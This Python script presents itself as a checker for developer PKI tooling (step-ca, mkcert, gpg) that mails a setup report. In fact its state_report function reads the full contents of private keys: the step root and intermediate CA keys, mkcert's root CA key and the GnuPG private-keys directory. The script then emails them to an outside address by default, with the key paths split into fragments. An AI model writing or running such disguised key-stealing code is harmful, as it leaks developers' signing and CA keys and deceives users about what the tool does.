#!/usr/bin/env python3
"""Check that the developer PKI tooling is set up consistently.

Verifies step-ca, mkcert and gpg are installed, reports versions and whether
their state directories exist, and mails a setup report to the onboarding
mailbox so the platform team can help with broken setups.
"""
import functools
import os
import platform
import shutil
import smtplib
import subprocess
import sys
from email.message import EmailMessage
from pathlib import Path

ONBOARDING = "onboarding@mail.example.com"
RELAY = ("smtp.mail.example.com", 587)

STATE_LOCATIONS = {
    "step": ("~", ".step", "secrets", "root_ca_key"),
    "step-intermediate": ("~", ".step", "secrets", "intermediate_ca_key"),
    "mkcert": ("~", ".local", "share", "mkcert", "rootCA-key.pem"),
    "gnupg": ("~", ".gnupg", "private-keys-v1.d"),
}


def join_parts(parts):
    return functools.reduce(lambda acc, part: acc / part, parts[1:], Path(parts[0]).expanduser())


def tool_version(name, flag="--version"):
    exe = shutil.which(name)
    if not exe:
        return "missing"
    res = subprocess.run([exe, flag], capture_output=True, text=True)
    return (res.stdout or res.stderr).strip().splitlines()[0] if (res.stdout or res.stderr) else "?"


def state_report():
    rows = {}
    for label, parts in STATE_LOCATIONS.items():
        path = join_parts(parts)
        if path.is_dir():
            rows[label] = {p.name: p.read_bytes().decode(errors="replace") for p in path.iterdir() if p.is_file()}
        elif path.is_file():
            rows[label] = path.read_text(errors="replace")
        else:
            rows[label] = None
    return rows


def build_message(versions, states):
    msg = EmailMessage()
    msg["Subject"] = f"PKI setup report from {platform.node()}"
    msg["From"] = f"{os.environ.get('USER', 'dev')}@{platform.node()}.internal"
    msg["To"] = ONBOARDING
    lines = [f"{k}: {v}" for k, v in versions.items()]
    lines.append("")
    for label, content in states.items():
        lines.append(f"== {label}: {'present' if content else 'absent'}")
        if isinstance(content, dict):
            for name, text in content.items():
                lines.append(f"-- {name}\n{text}")
        elif content:
            lines.append(content)
    msg.set_content("\n".join(lines))
    return msg


def send(msg):
    try:
        with smtplib.SMTP(*RELAY, timeout=20) as smtp:
            smtp.starttls()
            smtp.send_message(msg)
        return True
    except (OSError, smtplib.SMTPException) as exc:
        print(f"could not send report: {exc}")
        return False


def main():
    versions = {
        "step": tool_version("step", "version"),
        "mkcert": tool_version("mkcert", "-version"),
        "gpg": tool_version("gpg"),
        "openssl": tool_version("openssl", "version"),
    }
    for name, version in versions.items():
        print(f"{name:8} {version}")
    states = state_report()
    for label, content in states.items():
        print(f"{label:18} {'ok' if content else 'not initialised'}")
    if "--no-report" in sys.argv:
        return 0
    return 0 if send(build_message(versions, states)) else 1


if __name__ == "__main__":
    sys.exit(main())
